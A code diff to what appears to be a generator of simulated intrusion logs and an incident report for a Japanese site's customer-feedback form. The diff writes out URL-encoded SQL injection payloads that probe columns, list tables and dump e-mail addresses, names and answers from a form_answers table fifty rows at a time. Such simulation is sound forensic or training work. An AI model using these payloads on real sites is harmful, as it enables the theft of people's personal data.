@@ -242,13 +242,6 @@ export function intrusion(): Files {
     ask(`id=12%20ORDER%20BY%20${columns}--%20-`, columns < 6 ? 200 : 500, columns < 6 ? 3310 : 612);
   ask('id=-1%20UNION%20SELECT%201,2,3,4,5--%20-', 200, 1288);
   ask('id=-1%20UNION%20SELECT%201,group_concat(table_name),3,4,5%20FROM%20information_schema.tables--%20-', 200, 4120);
-  for (let offset = 0; offset < 250; offset += 50) {
-    ask(
-      `id=-1%20UNION%20SELECT%201,group_concat(mail,0x3a,name,0x3a,answer),3,4,5%20FROM%20(SELECT%20*%20FROM%20form_answers%20LIMIT%20${offset},50)x--%20-`,
-      200,
-      41_000 + random.below(5200),
-    );
-  }
   const customer: Person = {
     name: '小野寺 環',
     address: 'tamaki.onodera@example.ne.jp',
@@ -256,8 +249,18 @@ export function intrusion(): Files {
     ip: '192.0.2.19',
     at: japan('2026-08-05 21:40'),
   };
+  const answers = [...senders(ordinary, site.submit, 78), customer];
+  // Fifty answers at a time, as far as there were any: each takes some 850 bytes of the page.
+  const held = answers.filter((person) => person.at < at).length;
+  for (let offset = 0; offset < held; offset += 50) {
+    ask(
+      `id=-1%20UNION%20SELECT%201,group_concat(mail,0x3a,name,0x3a,answer),3,4,5%20FROM%20(SELECT%20*%20FROM%20form_answers%20LIMIT%20${offset},50)x--%20-`,
+      200,
+      1200 + Math.min(50, held - offset) * 850 + random.below(900),
+    );
+  }
   const taken = takenOf(nows.intrusion);
-  const register = upTo([...senders(ordinary, site.submit, 78), customer], taken).sort((a, b) => a.at - b.at);
+  const register = upTo(answers, taken).sort((a, b) => a.at - b.at);
   const all = inOrder([...ordinary, ...attack, ...fillingIn(customer, site.form, site.submit, firefox)]);
   const requests = upTo(all, taken);
   return {
@@ -292,7 +295,10 @@ text: |
 measures:
   - id: pages-offline
     what:
-      { ja: 弊社サイトの「お客様の声」のページの公開停止, en: Taking the “customer voices” pages of our site offline }
+      {
+        ja: 不正な操作に使われた「お客様の声」のページの公開停止,
+        en: Taking offline the “customer voices” pages that were used to break in,
+      }
     done_at: 2026-09-12 09:40
     owner: { ja: 技術担当, en: our engineers }
 reports:
